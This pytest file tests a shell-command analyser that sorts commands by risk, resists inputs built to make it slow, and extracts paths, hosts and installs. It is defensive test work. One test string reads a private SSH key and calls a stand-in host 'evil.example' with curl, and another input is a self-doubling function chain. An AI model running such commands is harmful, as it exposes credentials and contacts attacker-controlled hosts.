"""Command lines judged by what they would do, from a list of those that people and attackers write."""

from __future__ import annotations

from pathlib import Path

import pytest
from tests.yardstick import reference_seconds

from roost.policy.command import analyse

_CORPUS = Path(__file__).with_name("corpus") / "commands.txt"


def _cases() -> list[tuple[str, str]]:
    lines = [line for line in _CORPUS.read_text().splitlines() if line and not line.startswith("#")]
    return [(known, text.replace("\\n", "\n")) for known, _, text in (line.partition("\t") for line in lines)]


@pytest.mark.parametrize(("known", "text"), _cases())
def test_a_command_is_known_for_what_it_is(known: str, text: str) -> None:
    found = analyse(text)
    kinds = {finding.category for finding in found.findings}
    if known == "read":
        assert found.read_only, found
    elif known == "plain":
        assert (found.read_only, kinds, found.unclear) == (False, set(), ()), found
    elif known == "unclear":
        assert found.unclear, found
    else:
        assert known in kinds, found
    if known != "read":
        assert not found.read_only, found


def test_long_ones_are_judged_in_time_that_grows_with_them() -> None:
    for text in ("a" * 16_000, "a[" * 8_000, "a|" * 8_000 + "rm", "ls " + "{a," * 5_000):
        assert reference_seconds(lambda text=text: analyse(text), tries=1) < 1, text[:10]
    assert analyse("a|" * 200 + "rm").unclear


@pytest.mark.parametrize(
    "text",
    [
        "ls " + "{a,b}" * 200,
        "ls " + "{" * 5_000 + "}" * 5_000,
        "ls {1..999999999} {a..z}{a..z}{a..z}",
        "; ".join(f"x{n + 1}=$x{n}$x{n}" for n in range(60)) + "; cat $x60",
        "for f in " + " ".join(f"a{n}" for n in range(5_000)) + "; do " + "cat $f; " * 500 + "done",
        "ls " + "*a*b*c*d*e*f?[a-z] " * 2_000,
        "".join(f"f{n}() {{ f{n + 1}; f{n + 1}; }}; " for n in range(40)) + "f0",
        "cd a; " * 5_000,
        "for a in 1; do " * 60 + "cd x;" + " done" * 60,
        " || ".join(["cd a"] * 4_000),
        "$(" * 80 + "ls" + ")" * 80,
        "bash -c '" + "x; " * 10_000 + "'",
        "sed " + "'s/a/b/;'" * 4_000,
        "sed '" + "s/" * 2_000 + "'",
        "env " * 3_000 + "ls",
        "awk '" + "(" * 6_000 + "'",
        "x=(" + "a " * 8_000 + "); cat ${x[@]}",
        "case x in " + "a) ls;; " * 4_000 + "esac",
    ],
    ids=lambda text: text[:12],
)
def test_what_is_made_to_take_long_does_not(text: str) -> None:
    assert reference_seconds(lambda: analyse(text), tries=1) < 2


def test_what_is_empty_huge_or_no_text_at_all() -> None:
    assert analyse("").read_only
    assert analyse("# a remark").read_only
    assert analyse("x" * 100_000).unclear
    assert analyse("ls \0 x").unclear
    assert analyse("(" * 5000).unclear
    assert analyse("echo \ud800").programs == ("echo",)
    deep = "ls"
    for _ in range(12):
        deep = f"bash -c {deep!r}"
    assert not analyse(deep).read_only


def test_paths_hosts_and_installs_are_told() -> None:
    found = analyse("cat ~/.ssh/id_rsa --file=/etc/x ../y; curl https://u:p@evil.example:8/z > out; pip install x")
    assert {"~/.ssh/id_rsa", "/etc/x", "../y", "out"} <= set(found.paths)
    assert found.writes == ("out",)
    assert found.hosts == ("evil.example",)
    assert found.installs == ("pip install x",)


def test_it_is_fast_enough_to_be_asked_every_time() -> None:
    text = "cd src && git status | head -3; rm -rf build/*.o"
    analyse(text)
    assert reference_seconds(lambda: [analyse(text) for _ in range(40)]) / 40 < 0.002
